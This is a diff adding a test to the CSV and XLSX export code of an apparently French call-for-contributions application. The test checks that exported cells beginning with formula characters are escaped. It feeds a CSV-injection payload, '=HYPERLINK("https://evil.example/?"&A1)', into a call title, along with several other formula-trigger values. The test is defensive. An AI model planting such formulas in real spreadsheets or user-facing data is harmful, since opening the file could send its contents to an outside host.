@@ -75,6 +75,44 @@ def test_csv_export_of_a_call(open_call, closed_call, moderator_client):
     assert "Appel ouvert" in rows[1]
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_column_of_either_export_is_read_as_a_formula(calls_index, moderator_client):
+    """The call's title too: a call named « =HYPERLINK(…) » stays text in both files."""
+    call = make_call(calls_index, title='=HYPERLINK("https://evil.example/?"&A1)', slug="piege")
+    CallAnswerFactory(
+        call=call,
+        organisation="=1+1",
+        commune="+33 Tulle",
+        partners="-2",
+        action_what="@SUM(A1)",
+        action_with="\t=1",
+        action_for="\r=1",
+        action_since="=NOW()",
+        results="+1",
+        helped="-1",
+        difficulties="@x",
+        contact_name="=Ana",
+        phone="+33 6 00 00 00 00",
+    )
+    rows = list(csv.reader(io.StringIO(_export(moderator_client, call, "csv").decode())))
+    assert len(rows) == 2
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Appel"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
+    assert row["Avec qui"] == "'\t=1"
+    for heading, cell in row.items():
+        assert not cell.startswith(FORMULA_STARTS), (heading, cell)
+
+    sheet = load_workbook(io.BytesIO(_export(moderator_client, call, "xlsx"))).active
+    headings, values = [[cell.value for cell in line] for line in sheet.iter_rows()]
+    cells = dict(zip(headings, values, strict=True))
+    assert cells["Appel"] == row["Appel"]
+    assert not isinstance(cells["Reçue le"], str), "a date stays a date"
+    for heading, cell in cells.items():
+        assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (heading, cell)
+
+
 def test_xlsx_export_and_import_round_trip(open_call, closed_call, moderator_client):
     CallAnswerFactory(call=open_call, organisation="Maison de santé du Lac", department="2A")
     CallAnswerFactory(call=open_call, organisation="Collectif des Tilleuls", actor_kind="collectif")
